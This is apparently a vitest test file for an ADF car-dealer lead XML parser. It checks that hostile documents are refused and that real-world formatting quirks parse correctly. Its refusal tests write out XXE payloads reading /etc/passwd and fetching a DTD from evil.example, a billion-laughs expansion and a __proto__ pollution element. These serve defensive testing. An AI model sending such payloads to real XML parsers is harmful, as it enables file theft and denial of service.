import { describe, expect, it } from "vitest";
import { AdfRejected, readAdfLeads } from "../../../src/adapters/leads/adf/index.js";

const read = (xml: string) => readAdfLeads(xml, { timezone: "America/Chicago" });
const PROSPECT = `<prospect><requestdate>2026-03-02T09:00:00-06:00</requestdate><vehicle interest="buy" status="new"><year>2025</year><make>Toyota</make><model>Tacoma</model></vehicle><customer><contact><name part="full">Dana Reyes</name><phone type="cellphone">512-555-0123</phone></contact></customer><vendor><vendorname>Maple Ridge Motors</vendorname></vendor></prospect>`;

function rejection(xml: string): AdfRejected {
  try {
    read(xml);
  } catch (error) {
    if (error instanceof AdfRejected) return error;
    throw error;
  }
  throw new Error("expected the document to be refused");
}

describe("hostile ADF documents are refused before any parsing", () => {
  it("refuses an external entity (XXE) reading /etc/passwd", () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE adf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><adf><prospect><customer><comments>&xxe;</comments></customer></prospect></adf>`;
    const error = rejection(xxe);
    expect(error.code).toBe("forbidden_markup");
    expect(error.message).toMatch(/DOCTYPE/);
  });

  it("refuses billion laughs", () => {
    const lol = [`<?xml version="1.0"?>`, `<!DOCTYPE lolz [`, ` <!ENTITY lol "lol">`];
    for (let i = 1; i <= 9; i++) lol.push(` <!ENTITY lol${i} "${`&lol${i === 1 ? "" : i - 1};`.repeat(10)}">`);
    lol.push(`]>`, `<adf><prospect><customer><comments>&lol9;</comments></customer></prospect></adf>`);
    expect(rejection(lol.join("\n")).code).toBe("forbidden_markup");
  });

  it("refuses a lower-case doctype, a parameter entity and an ENTITY without a DOCTYPE", () => {
    expect(rejection(`<!doctype adf><adf>${PROSPECT}</adf>`).code).toBe("forbidden_markup");
    expect(
      rejection(`<!DOCTYPE adf [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><adf>${PROSPECT}</adf>`).code,
    ).toBe("forbidden_markup");
    expect(rejection(`<adf><!ENTITY x "y">${PROSPECT}</adf>`).code).toBe("forbidden_markup");
  });

  it("refuses a document over 256 KB", () => {
    const big = `<adf><prospect><customer><comments>${"a".repeat(300 * 1024)}</comments></customer></prospect></adf>`;
    const error = rejection(big);
    expect(error.code).toBe("too_large");
    expect(error.message).toContain("256 KB");
  });

  it("refuses malformed XML with where it broke", () => {
    const error = rejection(`<adf><prospect><customer><comments>unclosed</customer></prospect></adf>`);
    expect(error.code).toBe("malformed");
    expect(error.message).toMatch(/line 1, column \d+/);
    expect(rejection("").code).toBe("malformed");
    expect(rejection("just some text").code).toBe("malformed");
    expect(rejection(`<adf>${PROSPECT}</adf><adf></adf>`).code).toBe("malformed");
  });

  it("refuses element names that would reach JavaScript internals, as malformed, without crashing", () => {
    expect(rejection(`<adf><prospect><__proto__><polluted>1</polluted></__proto__></prospect></adf>`).code).toBe(
      "malformed",
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("refuses a document that is not ADF", () => {
    expect(rejection(`<lead><prospect/></lead>`).code).toBe("not_adf");
    expect(rejection(`<adf></adf>`).code).toBe("not_adf");
    expect(rejection(`<adf>${PROSPECT.repeat(21)}</adf>`).code).toBe("too_many_prospects");
  });
});

describe("ADF quirks seen in the wild are read", () => {
  it("upper-case tags and attributes, namespace prefixes and a BOM", () => {
    const upper = `\uFEFF<?ADF VERSION="1.0"?><ADF><PROSPECT><CUSTOMER><CONTACT><NAME PART="first">Dana</NAME><PHONE TYPE="Mobile">(512) 555-0123</PHONE></CONTACT></CUSTOMER></PROSPECT></ADF>`;
    expect(read(upper)[0]!.customer).toMatchObject({
      name: "Dana",
      phones: [{ number: "(512) 555-0123", type: "mobile" }],
    });
    const prefixed = `<a:adf xmlns:a="urn:adf"><a:prospect><a:customer><a:contact><a:name>Dana</a:name><a:email>dana@example.com</a:email></a:contact></a:customer></a:prospect></a:adf>`;
    expect(read(prefixed)[0]!.customer).toMatchObject({ name: "Dana", email: "dana@example.com" });
  });

  it("decodes the five XML entities and character references once, and leaves anything else as written", () => {
    const xml = `<adf><prospect><customer><contact><name>Dana</name></contact><comments>Tom &amp; Jerry&#x2019;s &lt;truck&gt; &#65; &amp;#66; &nbsp;</comments></customer></prospect></adf>`;
    expect(read(xml)[0]!.comments).toBe("Tom & Jerry’s <truck> A &#66; &nbsp;");
  });

  it("reads several prospects, a trade-in vehicle and a timeframe", () => {
    const trade = `<prospect><id source="Cars.com">L-77</id><vehicle interest="buy"><year>2025</year><make>Toyota</make><model>Tacoma</model><trim>TRD Off-Road</trim><stock>45821</stock></vehicle><vehicle interest="trade-in"><year>2015</year><make>Honda</make><model>Civic</model><odometer units="mi">98,500</odometer></vehicle><customer><contact><name part="first">Dana</name><phone>512-555-0123</phone></contact><timeframe><description>within a week</description></timeframe></customer><provider><name>Cars.com</name><service>Lead Engine</service></provider></prospect>`;
    const leads = read(`<adf>${PROSPECT}${trade}</adf>`);
    expect(leads).toHaveLength(2);
    expect(leads[1]).toMatchObject({
      providerLeadId: "Cars.com:L-77",
      vehicle: { year: 2025, make: "Toyota", model: "Tacoma", trim: "TRD Off-Road", stock: "45821", interest: "buy" },
      tradeIn: { year: 2015, make: "Honda", model: "Civic", mileage: 98500 },
      customer: { timeframe: "within a week" },
      provider: { name: "Cars.com", service: "Lead Engine" },
    });
  });
});
